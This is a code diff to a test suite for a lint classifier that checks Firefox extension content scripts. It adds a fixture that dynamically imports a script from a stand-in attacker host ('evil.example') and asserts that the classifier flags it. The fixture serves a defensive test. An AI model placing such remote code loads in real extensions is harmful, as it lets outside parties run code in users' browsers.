@@ -134,7 +134,9 @@ describe('Firefox lint judgement', () => {
   it('accepts a lazy import of a packaged file, not of any other URL', () => {
     const cs = fakeBuild({
       'content-scripts/tiktok.js':
-        'const h=()=>s??=import(R.runtime.getURL(Ne));const k=()=>import(location.hash.slice(1));',
+        'const h=()=>s??=import(R.runtime.getURL(Ne));const k=()=>import(location.hash.slice(1));' +
+        'const c=()=>import(n.runtime.getURL("/tiktok-card.js"));' +
+        'const r=()=>import(n.runtime.getURL("https://evil.example/x.js"));',
     });
     const text = readFileSync(join(cs, 'content-scripts/tiktok.js'), 'utf8');
     const at = (needle: string) => ({
@@ -145,11 +147,19 @@ describe('Firefox lint judgement', () => {
     });
     const { accepted, problems } = classify(cs, {
       errors: [],
-      warnings: [at('import(R.runtime'), at('import(location')],
+      warnings: [
+        at('import(R.runtime'),
+        at('import(location'),
+        at('import(n.runtime.getURL("/'),
+        at('import(n.runtime.getURL("https'),
+      ],
       notices: [],
     });
-    expect(accepted).toHaveLength(1);
-    expect(problems.map((m) => m.column)).toEqual([at('import(location').column]);
+    expect(accepted).toHaveLength(2);
+    expect(problems.map((m) => m.column)).toEqual([
+      at('import(location').column,
+      at('import(n.runtime.getURL("https').column,
+    ]);
   });
 
   it('fails on every error and on any other warning or notice', () => {
